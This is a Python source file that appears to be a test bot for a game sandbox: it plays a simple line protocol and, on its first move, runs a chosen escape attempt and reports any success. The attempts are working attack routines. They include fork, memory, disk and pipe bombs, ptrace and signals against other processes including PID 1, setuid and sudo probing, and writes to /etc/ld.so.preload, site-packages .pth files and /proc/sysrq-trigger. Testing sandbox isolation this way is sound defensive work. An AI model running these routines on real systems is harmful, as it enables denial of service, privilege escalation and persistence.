"""A bot that speaks lines, and attacks whatever it can reach when it is asked for its first move:

python attacker.py ATTACK [ARGUMENTS...]

What it achieves it says on standard error, on a line that begins with ESCAPED. Then it plays, if it still can.
"""

from __future__ import annotations

import ctypes
import glob
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable


def main(attack: str, arguments: list[str]) -> None:
    is_first = True
    for line in sys.stdin:
        word = line.split()[0]
        if word == "hello":
            print("ready attacker", flush=True)
        elif word == "go":
            if is_first:
                ATTACKS[attack](*arguments)
            is_first = False
            print("move a", flush=True)
            if attack == "computes on":
                threading.Thread(target=burn, daemon=True).start()
        elif word == "quit":
            return


def escaped(what: object) -> None:
    print("ESCAPED", what, file=sys.stderr, flush=True)


def try_to(action: Callable[[], object]) -> None:
    """It is an escape if this works."""
    try:
        escaped(action())
    except OSError as error:
        print("blocked:", error, file=sys.stderr, flush=True)


def read(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read()


def write(path: str) -> int:
    with open(path, "ab") as file:
        return file.write(b"attacker was here")


# Reading and writing.


def reads(*paths: str) -> None:
    for path in paths:
        try_to(lambda path=path: read(path) if not os.path.isdir(path) else os.listdir(path))


def lists(folder: str, *known: str) -> None:
    """A folder on the way to its own: is there anything else?"""
    others = set(os.listdir(folder)) - set(known)
    if others:
        escaped(f"{folder} has {others}")
    print("listed", folder, file=sys.stderr, flush=True)


def searches_proc(secret: str) -> None:
    """Open files, folders and environments of everybody. The secret is written in hexadecimal, for it searches itself."""
    wanted = bytes.fromhex(secret).decode()
    for path in glob.glob("/proc/[0-9]*"):
        for name in ("environ", "cmdline", "maps"):
            try:
                if wanted.encode() in read(f"{path}/{name}"):
                    escaped(f"{path}/{name}")
            except OSError:
                continue
        for link in [*glob.glob(f"{path}/fd/*"), f"{path}/cwd", f"{path}/root", f"{path}/exe"]:
            try:
                if wanted in os.readlink(link):
                    escaped(link)
            except OSError:
                continue
    others = [path for path in glob.glob("/proc/[0-9]*") if int(path.split("/")[2]) > 50]
    if others:
        escaped(f"sees {others}")


def writes(*paths: str) -> None:
    for path in paths:
        try_to(lambda path=path: write(path))


def modifies_itself(own: str, other: str) -> None:
    writes(own, other)
    try_to(lambda: os.unlink(own))
    try_to(lambda: os.rename(other, own))
    try_to(lambda: os.chmod(own, 0o777))
    try_to(lambda: os.truncate(own, 0))


def follows_links(secret: str, link: str) -> None:
    """A link that was there before, one of its own, and a hard link."""
    own = os.path.join(os.path.dirname(link), "own-link")
    os.symlink(secret, own)
    for path in (link, own):
        try_to(lambda path=path: read(path))
        try_to(lambda path=path: write(path))
    try_to(lambda: os.link(secret, own + "-hard"))
    try_to(lambda: os.link("/usr/bin/env", "/tmp/env"))


# Sockets.


def connects(kind: str, where: str) -> None:
    family, how = {
        "tcp": (socket.AF_INET, socket.SOCK_STREAM),
        "udp": (socket.AF_INET, socket.SOCK_DGRAM),
        "unix": (socket.AF_UNIX, socket.SOCK_STREAM),
        "abstract": (socket.AF_UNIX, socket.SOCK_STREAM),
    }[kind]
    host, _, port = where.rpartition(":")
    address = {"unix": where, "abstract": "\0" + where}.get(kind) or (host, int(port))
    with socket.socket(family, how) as line:
        line.settimeout(1)
        try:
            line.connect(address)
            line.send(b"attacker")
            if kind != "udp":  # nobody can tell that a datagram has arrived but its receiver
                escaped("connected")
        except OSError as error:
            print("blocked:", error, file=sys.stderr, flush=True)


def uses_its_own_loopback() -> None:
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()) as line:
        line.send(b"me")
    print("loopback works", file=sys.stderr, flush=True)


# Other processes.


def signals(*pids: str) -> None:
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for pid in pids:
            try_to(lambda pid=pid, number=number: os.kill(int(pid), number))


def signals_its_parent() -> None:
    for number in (signal.SIGSTOP, signal.SIGKILL):
        os.kill(os.getppid(), number)
        os.kill(1, number)


def traces(*pids: str) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in pids:
        if libc.ptrace(16, int(pid), None, None) == 0:  # PTRACE_ATTACH
            escaped(f"traces {pid}")
        try_to(lambda pid=pid: read(f"/proc/{pid}/mem"))


def leaves_a_daemon(name: str) -> None:
    """A grandchild in a session of its own, without an environment, that ignores what it can."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            for fd in (0, 1, 2):
                os.close(fd)
            os.execve(sys.executable, [sys.executable, "-c", f"import time; time.sleep(60)  # {name}"], {})
        os._exit(0)
    os.wait()


def leaves_a_daemon_and_ends(name: str) -> None:
    leaves_a_daemon(name)
    os._exit(0)


# Bombs.


def forks() -> None:
    while True:
        try:
            if os.fork() == 0:
                time.sleep(0.01)
        except OSError:
            time.sleep(0.01)


def starts_threads() -> None:
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)


def hoards() -> None:
    hoard = []
    while True:
        hoard.append(bytearray(b"x" * 10_000_000))


def fills(folder: str) -> None:
    """A disk."""
    written = 0
    try:
        for number in range(1000):
            with open(f"{folder}/{number}", "wb") as file:
                while file.tell() < 10_000_000:
                    written += file.write(b"x" * 1_000_000)
    except OSError as error:
        print("blocked:", error, file=sys.stderr, flush=True)
    if written > 100_000_000:
        escaped(f"{written} bytes")


def makes_files(folder: str) -> None:
    """Inodes without end."""
    number = 0
    while True:
        number += 1
        try:
            os.close(os.open(f"{folder}/{number}", os.O_CREAT | os.O_WRONLY))
        except OSError:
            time.sleep(0.01)


def fills_pipes() -> None:
    """Pipes until there are no more, all of them full."""
    try:
        while True:
            _, inlet = os.pipe()
            os.set_blocking(inlet, False)
            os.write(inlet, b"x" * 65536)
    except OSError as error:
        print("blocked:", error, file=sys.stderr, flush=True)


def floods() -> None:
    while True:
        os.write(1, b"x" * 65536)


def never_answers() -> None:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        time.sleep(60)


def burn() -> None:
    while True:
        sum(range(10_000))


def nothing() -> None:
    return


# Rights.


def becomes_root() -> None:
    for change in (os.setuid, os.seteuid, os.setgid):
        try_to(lambda change=change: change(0))
    if 0 in (os.getuid(), os.geteuid(), os.getgid(), os.getegid()):
        escaped("is root")
    status = read("/proc/self/status").decode()
    fields = dict(line.split(":\t") for line in status.splitlines() if ":\t" in line)
    if any(int(fields[name], 16) for name in ("CapEff", "CapPrm", "CapInh", "CapBnd", "CapAmb")):
        escaped("has capabilities")
    if fields["NoNewPrivs"] != "1":
        escaped("may gain privileges")


def runs_setuid_programs() -> None:
    """Whatever on this system gives root to those who ask, and a copy of its own."""
    candidates = [path for path in glob.glob("/usr/bin/*") if os.path.isfile(path) and os.stat(path).st_mode & 0o4000]
    subprocess.run(["cp", "/usr/bin/id", "/tmp/id"], check=True)
    os.chmod("/tmp/id", 0o4755)
    said = subprocess.run(["/tmp/id", "-u"], capture_output=True, text=True, check=False).stdout.strip()
    if said == "0":
        escaped("a setuid copy gives root")
    for path in [path for path in candidates if os.path.basename(path) in ("su", "sudo")]:
        said = subprocess.run(
            [path, "-n", "id", "-u"] if path.endswith("sudo") else [path, "-c", "id -u"],
            capture_output=True,
            text=True,
            stdin=subprocess.DEVNULL,
            check=False,
        ).stdout.strip()
        if said == "0":
            escaped(f"{path} gives root")


def preloads() -> None:
    """A library for every program that is started from now on, and code for every Python."""
    packages = os.path.join(sys.prefix, "lib", "python{}.{}".format(*sys.version_info), "site-packages")
    writes("/etc/ld.so.preload", "/etc/environment", "/usr/lib/attacker.so", f"{packages}/attacker.pth")
    write("sitecustomize.py")  # next to itself: gone with its game
    os.environ["LD_PRELOAD"] = "/tmp/attacker.so"
    subprocess.run(["/usr/bin/env"], capture_output=True, check=False)


def makes_namespaces() -> None:
    """A new user namespace would give it capabilities, and the kernel's less tried code with them."""
    libc = ctypes.CDLL(None, use_errno=True)
    for flag in (0x10000000, 0x00020000, 0x40000000):  # users, mounts, network
        if libc.unshare(flag) == 0:
            escaped(f"unshare {flag:#x}")
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
        escaped("mounts")
    if libc.umount2(b"/usr", 2) == 0:
        escaped("unmounts")
    if libc.chroot(b"/tmp") == 0:
        escaped("changes its root")


def looks_at_its_namespaces(*known: str) -> None:
    for entry in known:
        name, _, link = entry.partition("=")
        if os.readlink(f"/proc/self/ns/{name}") == link:
            escaped(f"shares the {name} namespace")
    print("looked", file=sys.stderr, flush=True)


def changes_the_kernel() -> None:
    writes("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/hostname", "/dev/mem")
    reads("/sys/kernel", "/proc/kcore", "/dev/mem", "/dev/kmsg")
    writes("/proc/1/oom_score_adj", "/proc/1/mem")


def looks_at_its_files() -> None:
    """Open files, environment, command lines: no more than it needs, and nothing of linewood's."""
    files = [f"/proc/self/fd/{fd}" for fd in os.listdir("/proc/self/fd") if int(fd) > 2]
    links = {path: os.readlink(path) for path in files if os.path.lexists(path)}  # one was open only to list them
    if links:
        escaped(links)
    usual = {"PATH", "HOME", "TMPDIR", "USER", "LANG", "LC_ALL", "LC_CTYPE", "TZ", "PWD", "PYTHONDONTWRITEBYTECODE"}
    strange = set(os.environ) - usual
    if strange:
        escaped(strange)
    if b"--ro-bind" in read("/proc/1/cmdline"):
        escaped(read("/proc/1/cmdline"))


ATTACKS: dict[str, Callable[..., None]] = {
    "computes on": nothing,
    **{
        name: value
        for name, value in list(globals().items())
        if callable(value) and getattr(value, "__module__", "") == __name__
    },
}


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2:])
